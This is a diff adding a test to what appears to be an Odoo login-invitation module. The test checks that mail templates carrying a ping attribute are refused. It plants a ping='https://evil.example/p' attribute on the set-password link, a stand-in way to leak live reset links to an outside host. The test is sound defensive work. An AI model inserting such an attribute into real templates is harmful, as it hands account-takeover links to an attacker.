@@ -133,6 +133,51 @@ class TestLinkMode(BulkInviteMixin, HttpCase):
         # the GET did not use the link up
         self.assert_password_chosen(self.choose_password(link, NEW_PASSWORD))
 
+    def test_a_link_that_pings_elsewhere_is_not_sent(self):
+        """A template editor's ``ping`` would have browsers report the click, and
+        the live link, to another address."""
+        ben = self.make_contact(name="Ben", username="ben")
+        # a manager who also edits mail templates (administrators are both)
+        editors = self.env.ref("mail.group_mail_template_editor")
+        self.manager[compat.GROUPS_FIELD] += editors
+        template = self.env.ref("partner_website_login.mail_template_random_password")
+        as_manager = template.with_user(self.manager)
+        original = str(as_manager.body_html)
+        link = "<a t-att-href=\"ctx.get('website_set_password_url')\""
+        pinging = original.replace(link, f'{link} ping="https://evil.example/p"')
+        self.assertNotEqual(pinging, original)
+        as_manager.body_html = pinging
+        self.assertIn('ping="https://evil.example/p"', template.body_html)
+
+        def send_to_both():
+            action = (self.jane | ben).with_user(self.manager)
+            window = (
+                self.env["random.password.mail"]
+                .with_user(self.manager)
+                .browse(action.action_random_password_mail()["res_id"])
+            )
+            with smtp_server(self.env) as smtp:
+                notification = window.action_send()
+            return smtp.messages, notification["params"]["message"]
+
+        messages, said = send_to_both()
+        self.assertEqual(messages, [])
+        self.assertIn("0 set-password links sent", said)
+        self.assertIn("no other attribute than style, class, title", said)
+        self.assertIn("Ben", said)
+        self.assertFalse(
+            self.env["partner.login.credential"]
+            .sudo()
+            .search([("user_id.partner_id", "in", (self.jane | ben).ids)])
+        )
+        self.assertNotEqual(self.jane.website_access_state, "invited")
+        # the editor's mistake undone: both get their link
+        as_manager.body_html = original
+        messages, said = send_to_both()
+        self.assertEqual(len(messages), 2)
+        self.assertIn("2 set-password links sent", said)
+        self.assertTrue(self.link_works(link_from(messages[0])))
+
     def test_a_newer_link_or_revoking_access_ends_a_link(self):
         first = self.send_random_password_mail(self.jane)
         # Odoo's signed tokens have a resolution of one second: within the same
